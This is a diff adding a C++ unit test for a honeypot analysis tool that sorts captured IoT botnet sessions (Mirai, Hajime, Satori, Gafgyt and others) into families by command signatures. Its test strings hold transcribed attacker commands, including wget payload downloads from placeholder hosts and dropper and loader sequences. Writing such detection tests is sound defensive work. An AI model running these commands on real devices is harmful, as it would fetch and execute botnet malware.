@@ -1,0 +1,99 @@
+// The families analysis: every signature of data/families.toml on a session transcribed from
+// ../shared/research/iot-malware.md, the first-match order (Hajime before the Mirai loader),
+// bad TOML, and unknown sessions ranked by opening through the real pipeline.
+#include <gtest/gtest.h>
+
+#include "analyze/intel/family_table.h"
+#include "analyze/report/intel_report.h"
+#include "analyze_test_support.h"
+
+namespace busytrap::analyze {
+namespace {
+
+intel::FamilyTable shipped() {
+  intel::FamilyTable table;
+  std::string error;
+  EXPECT_TRUE(table.load(std::string(BUSYTRAP_DEFAULT_DATA_DIR) + "/families.toml", error)) << error;
+  return table;
+}
+
+std::string classify(const intel::FamilyTable& table, std::vector<std::string_view> lines) {
+  intel::SessionCommands session;
+  session.lines = lines;
+  for (std::string_view line : lines) {
+    const std::size_t at = line.find("busybox ");
+    if (at != std::string_view::npos) {
+      std::string_view applet = line.substr(at + 8);
+      session.busybox_applets.push_back(applet.substr(0, applet.find(' ')));
+    }
+  }
+  const auto family = table.classify(session);
+  return family ? table.families()[*family].name : "unknown";
+}
+
+TEST(IntelFamilies, EverySignatureOnATranscribedSession) {
+  const intel::FamilyTable t = shipped();
+  EXPECT_EQ(classify(t, {"enable", "system", "shell", "sh", "/bin/busybox MIRAI"}), "mirai-scanner");
+  EXPECT_EQ(classify(t, {"/bin/busybox ECCHI", "cat /proc/mounts", "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > /tmp/.nippon",
+                         "rm /tmp/.sh"}),
+            "mirai-loader");
+  EXPECT_EQ(classify(t, {"/bin/busybox VDOSS"}), "mirai-loader");
+  EXPECT_EQ(classify(t, {"cd /var; cat .s || cp /bin/echo .s", "/bin/busybox ECCHI", "./.s>.i; ./.i"}), "hajime");
+  EXPECT_EQ(classify(t, {"/bin/busybox QSDWQ", "cat .s || cp /bin/echo .s",
+                         "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s"}),
+            "hajime-s-loader");
+  EXPECT_EQ(classify(t, {"/bin/busybox <RANDOM>", "cat .s || cp /bin/echo .s"}), "hajime-s-loader");  // folded
+  EXPECT_EQ(classify(t, {"/bin/busybox SATORI"}), "satori");
+  EXPECT_EQ(classify(t, {"cd /tmp; wget http://h/batkek/x86"}), "satori");
+  EXPECT_EQ(classify(t, {"/bin/busybox MASUTA"}), "masuta");
+  EXPECT_EQ(classify(t, {"/bin/busybox OWARI"}), "owari");
+  EXPECT_EQ(classify(t, {"/bin/busybox SORA"}), "sora");
+  EXPECT_EQ(classify(t, {"/bin/busybox WICKED"}), "wicked");
+  EXPECT_EQ(classify(t, {"/bin/busybox JOSHO"}), "josho");
+  EXPECT_EQ(classify(t, {"/bin/busybox BAT"}), "bat-loader");
+  EXPECT_EQ(classify(t, {"echo -e '\\147\\141\\171\\146\\147\\164'"}), "gafgyt");
+  EXPECT_EQ(classify(t, {"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://1.2.3.4/bins.sh"}), "gafgyt");
+  EXPECT_EQ(classify(t, {"uname -a", "/bin/busybox ls"}), "unknown");
+  EXPECT_EQ(classify(t, {"cat .s"}), "unknown");  // the .s loader needs its random token
+}
+
+TEST(IntelFamilies, BadTablesAreErrors) {
+  intel::FamilyTable table;
+  std::string error;
+  EXPECT_FALSE(table.parse("[[family]]\nname = \"x\"\n", error));  // no markers
+  EXPECT_NE(error.find("x:"), std::string::npos);
+  EXPECT_FALSE(table.parse("[[family]]\ntokens = [\"A\"]\n", error));  // no name
+  EXPECT_FALSE(table.parse("[[family]]\nname = \"x\"\ntokens = [1]\n", error));
+  EXPECT_FALSE(table.parse("[[family\n", error));
+  EXPECT_NE(error.find("line 1"), std::string::npos);
+  EXPECT_FALSE(table.parse("", error));
+  EXPECT_FALSE(table.load("/nonexistent/families.toml", error));
+}
+
+TEST(IntelFamilies, PipelineCountsFamiliesAndRanksUnknownOpenings) {
+  testing::TempDir dir;
+  using testing::cowrie_command;
+  const std::string path = dir.file(
+      "f.json", cowrie_command("a", "2024-01-01T00:00:01Z", R"("enable")") +
+                    cowrie_command("a", "2024-01-01T00:00:02Z", R"("/bin/busybox MIRAI")") +
+                    cowrie_command("b", "2024-01-01T00:00:03Z", R"("uname -a; cat /proc/cpuinfo; ls")") +
+                    cowrie_command("c", "2024-01-01T00:00:04Z", R"("uname -a; cat /proc/cpuinfo; ls; id")") +
+                    cowrie_command("d", "2024-01-01T00:00:05Z", R"("/bin/busybox BAT")"));
+  AnalysisOptions options;
+  options.intel.families = true;
+  options.families = std::make_shared<intel::FamilyTable>(shipped());
+  Analysis analysis(options);
+  PipelineReport pipeline;
+  std::string error;
+  ASSERT_TRUE(AnalyzePipeline(options).run({path}, analysis, pipeline, error)) << error;
+  const IntelReport report = build_intel_report(analysis.intel(), intel::CredentialTable{}, 0, options.families.get());
+  ASSERT_EQ(report.tables.size(), 2u);
+  EXPECT_EQ(testing::as_map(report.tables[0]),
+            (std::map<std::string, std::uint64_t>{{"mirai-scanner", 1}, {"bat-loader", 1}}));
+  EXPECT_EQ(testing::as_map(report.tables[1]),
+            (std::map<std::string, std::uint64_t>{{"uname \u21d2 cat \u21d2 ls", 2}}));
+  EXPECT_EQ(report.tables[0].total, 4u);
+}
+
+}  // namespace
+}  // namespace busytrap::analyze
